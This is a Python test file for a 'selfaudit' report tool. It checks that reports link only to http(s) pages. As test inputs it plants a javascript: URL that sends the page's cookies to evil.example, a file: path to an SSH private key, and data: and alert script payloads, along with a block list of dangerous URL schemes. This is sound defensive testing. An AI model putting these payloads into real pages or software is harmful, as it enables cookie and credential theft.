"""A report links only to web pages. A hand-edited or hostile snapshot.json (a post's address
``javascript:…``, an account address ``file:///…``) put those addresses in the report's
"open it" links as they were; only http(s) addresses become links now."""

from __future__ import annotations

import json
from pathlib import Path

from typer.testing import CliRunner

from selfaudit.cli import app

runner = CliRunner()
SAMPLE = Path(__file__).resolve().parents[1] / "data" / "sample-snapshot" / "snapshot.json"
BAD = ("javascript:", "file:", "data:text", "vbscript:")


def test_report_links_only_to_web_pages(tmp_path: Path):
    snap = json.loads(SAMPLE.read_text())
    for i, a in enumerate(snap["accounts"]):
        a["account"]["url"] = "file:///home/me/.ssh/id_rsa" if i else "javascript:alert(1)"
        for p in a.get("posts") or []:
            p["url"] = 'javascript:fetch("http://evil.example/"+document.cookie)'
        for m in a.get("photos") or []:
            m["url"] = "data:text/html,<script>alert(1)</script>"
    d = tmp_path / "s"
    d.mkdir()
    (d / "snapshot.json").write_text(json.dumps(snap))
    r = runner.invoke(app, ["report", str(d / "snapshot.json")])
    assert r.exit_code in (0, 1), r.output
    pages = sorted(d.glob("report*.html"))
    assert pages
    for page in pages:
        html = page.read_text().lower()
        for bad in BAD:
            assert f'href="{bad}' not in html, (page.name, bad)
    report = json.loads((d / "report.json").read_text())
    links = [a.get("link") for a in report["actions"]] + [p.get("link") for a in report["actions"] for p in a["parts"]]
    assert not [x for x in links if x and not x.startswith(("http://", "https://"))]
